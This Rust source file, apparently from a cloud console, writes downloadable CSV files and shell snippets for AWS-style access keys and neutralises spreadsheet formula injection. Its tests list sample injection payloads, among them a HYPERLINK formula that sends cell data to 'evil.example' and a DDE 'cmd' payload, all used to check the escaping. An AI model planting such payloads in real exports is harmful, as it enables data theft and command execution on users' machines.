//! Ready-to-use forms of a new access/secret pair: CSV and snippets for AWS-compatible tools.

/// One cell of a downloadable CSV.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    /// Text a person typed or a server named (a user or project name): a spreadsheet must show
    /// it, never run it, so one that begins like a formula is written with a leading `'` (OWASP).
    Text(String),
    /// A key or secret: written exactly as it is, since tools read the file too.
    Key(String),
}

/// What spreadsheets read as the start of a formula, or strip before looking for one.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would read `value` as a formula.
pub fn looks_like_formula(value: &str) -> bool {
    value.starts_with(FORMULA_START)
}

/// One CSV field, quoted when it needs to be (RFC 4180).
fn csv_field(value: &str) -> String {
    if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

fn cell_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) if looks_like_formula(text) => csv_field(&format!("'{text}")),
        Cell::Text(text) | Cell::Key(text) => csv_field(text),
    }
}

/// The one CSV writer of every download: a header row, then `rows`, lines ended by CRLF.
pub fn csv(header: &[&str], rows: &[Vec<Cell>]) -> String {
    let line = |fields: Vec<String>| fields.join(",") + "\r\n";
    let mut out = line(header.iter().map(|h| csv_field(h)).collect());
    for row in rows {
        out.push_str(&line(row.iter().map(cell_text).collect()));
    }
    out
}

/// Whether a key cell of `rows` would be read as a formula if the file were opened in a
/// spreadsheet (keys the console generates never are; a typed one may be).
pub fn keys_look_like_formulas(rows: &[Vec<Cell>]) -> bool {
    rows.iter()
        .flatten()
        .any(|cell| matches!(cell, Cell::Key(key) if looks_like_formula(key)))
}

/// The header of an access/secret pair's CSV, as the AWS CLI's `aws configure import --csv`
/// reads it (headers matched without regard to case; the user name becomes the profile).
pub const USER_NAME: &str = "User Name";
pub const ACCESS_KEY_ID: &str = "Access Key ID";
pub const SECRET_ACCESS_KEY: &str = "Secret Access Key";

/// Where S3/EC2 tools should send requests, from the token's service catalog.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ToolTarget {
    pub endpoint: Option<String>,
    pub region: Option<String>,
}

/// A profile name made of safe characters only.
pub fn profile_name(hint: &str) -> String {
    let cleaned: String = hint
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '-'
            }
        })
        .collect();
    let cleaned = cleaned.trim_matches('-');
    if cleaned.is_empty() {
        "keyrack".to_string()
    } else {
        format!("keyrack-{cleaned}")
    }
}

/// A profile to paste into `~/.aws/credentials` (endpoint and region go with it as comments
/// ready to move into `~/.aws/config`, where the AWS CLI reads them).
pub fn aws_credentials_profile(
    profile: &str,
    access: &str,
    secret: &str,
    target: &ToolTarget,
) -> String {
    let mut text =
        format!("[{profile}]\naws_access_key_id = {access}\naws_secret_access_key = {secret}\n");
    if let Some(region) = &target.region {
        text.push_str(&format!("region = {region}\n"));
    }
    if let Some(endpoint) = &target.endpoint {
        text.push_str(&format!("endpoint_url = {endpoint}\n"));
    }
    text
}

/// A value for a POSIX shell, single-quoted: nothing in it is expanded (`$(…)`, `` ` ``, `$X`).
pub fn shell_quoted(value: &str) -> String {
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// Environment variables for the current shell, every value single-quoted.
pub fn environment_variables(access: &str, secret: &str, target: &ToolTarget) -> String {
    let mut text = format!(
        "export AWS_ACCESS_KEY_ID={}\nexport AWS_SECRET_ACCESS_KEY={}\n",
        shell_quoted(access),
        shell_quoted(secret)
    );
    if let Some(region) = &target.region {
        text.push_str(&format!(
            "export AWS_DEFAULT_REGION={}\n",
            shell_quoted(region)
        ));
    }
    if let Some(endpoint) = &target.endpoint {
        text.push_str(&format!(
            "export AWS_ENDPOINT_URL={}\n",
            shell_quoted(endpoint)
        ));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    /// How the AWS CLI v2's `aws configure import --csv` reads a file (its
    /// `CSVCredentialParser`): lines, plain commas, headers matched in lower case; each row gives
    /// (profile name, access key id, secret access key). Version 2 is not on PyPI, so its rules
    /// are checked here.
    fn aws_import(csv: &str) -> Result<Vec<(String, String, String)>, String> {
        let mut lines = csv.lines();
        let headers: Vec<String> = lines
            .next()
            .ok_or("empty")?
            .split(',')
            .map(|h| h.trim().to_lowercase())
            .collect();
        let at = |name: &str| {
            headers
                .iter()
                .position(|h| *h == name.to_lowercase())
                .ok_or(format!("Expected header \"{name}\" not found"))
        };
        let (user, access, secret) = (at(USER_NAME)?, at(ACCESS_KEY_ID)?, at(SECRET_ACCESS_KEY)?);
        lines
            .map(|line| {
                let cells: Vec<&str> = line.split(',').map(str::trim).collect();
                let cell = |i: usize| cells.get(i).map(|c| c.to_string()).ok_or("missing");
                Ok((cell(user)?, cell(access)?, cell(secret)?))
            })
            .collect()
    }

    #[test]
    fn names_that_begin_like_formulas_are_neutralised_and_keys_are_kept_exact() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?k=\"&D2,\"open\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tTAB",
            "\rCR",
        ];
        for name in hostile {
            let text = csv(
                &[USER_NAME, ACCESS_KEY_ID, SECRET_ACCESS_KEY],
                &[vec![
                    Cell::Text(name.to_string()),
                    Cell::Key("-AKIA".into()),
                    Cell::Key("=secret".into()),
                ]],
            );
            let row = text.lines().nth(1).unwrap_or_default();
            // The first cell, quoted or not, begins with the apostrophe.
            assert!(
                row.starts_with('\'') || row.starts_with("\"'"),
                "{name:?} was written as {row:?}"
            );
            assert!(row.ends_with(",-AKIA,=secret"), "keys exact: {row:?}");
        }
        assert!(keys_look_like_formulas(&[vec![Cell::Key("=x".into())]]));
        assert!(!keys_look_like_formulas(&[vec![
            Cell::Text("=x".into()),
            Cell::Key("AKIA".into())
        ]]));
        // Ordinary text is written as it is.
        assert_eq!(
            csv(&["User Name"], &[vec![Cell::Text("alice".into())]]),
            "User Name\r\nalice\r\n"
        );
    }

    #[test]
    fn the_aws_cli_imports_a_downloaded_pair_as_a_profile_of_the_user() {
        let text = csv(
            &[USER_NAME, "Project", ACCESS_KEY_ID, SECRET_ACCESS_KEY],
            &[vec![
                Cell::Text("alice".into()),
                Cell::Text("demo".into()),
                Cell::Key("0123abcd".into()),
                Cell::Key("s3cr3t".into()),
            ]],
        );
        assert_eq!(
            aws_import(&text),
            Ok(vec![("alice".into(), "0123abcd".into(), "s3cr3t".into())])
        );
        // The header the Credentials page used to write is refused by the AWS CLI.
        let old = "User ID,Access Key Id,Secret Access Key\r\nu1,a,s\r\n";
        assert_eq!(
            aws_import(old),
            Err("Expected header \"User Name\" not found".to_string())
        );
    }
}
